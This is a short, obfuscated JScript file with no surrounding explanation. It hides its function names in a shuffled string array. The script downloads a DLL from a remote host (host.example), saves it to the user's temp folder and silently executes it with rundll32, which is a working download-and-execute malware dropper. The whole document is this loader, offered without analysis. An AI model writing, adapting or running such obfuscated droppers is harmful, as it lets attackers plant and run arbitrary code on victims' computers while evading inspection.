var _0x4f = ["GET", "send", "Run", "responseBody", "http://host.example/r.dll", "open", "WScript.Shell", "SaveToFile", "MSXML2.XMLHTTP", "ADODB.Stream", "Write", "rundll32 %TEMP%\\r.dll,Start", "Open"];
(function (a, n) { while (--n) a.push(a.shift()); })(_0x4f, 14);
var _0x1a = function (i) { i = i - 0x0; return _0x4f[i]; };
var h = new ActiveXObject(_0x1a("0x8")); h[_0x1a("0x5")](_0x1a("0x0"), _0x1a("0x4"), ![]); h[_0x1a("0x1")]();
var st = new ActiveXObject(_0x1a("0x9")); st[_0x1a("0xc")](); st.Type = 0x1; st[_0x1a("0xa")](h[_0x1a("0x3")]);
var sh = new ActiveXObject(_0x1a("0x6")); st[_0x1a("0x7")](sh.ExpandEnvironmentStrings("%TEMP%") + "\\r.dll", 0x2);
sh[_0x1a("0x2")](_0x1a("0xb"), 0x0);
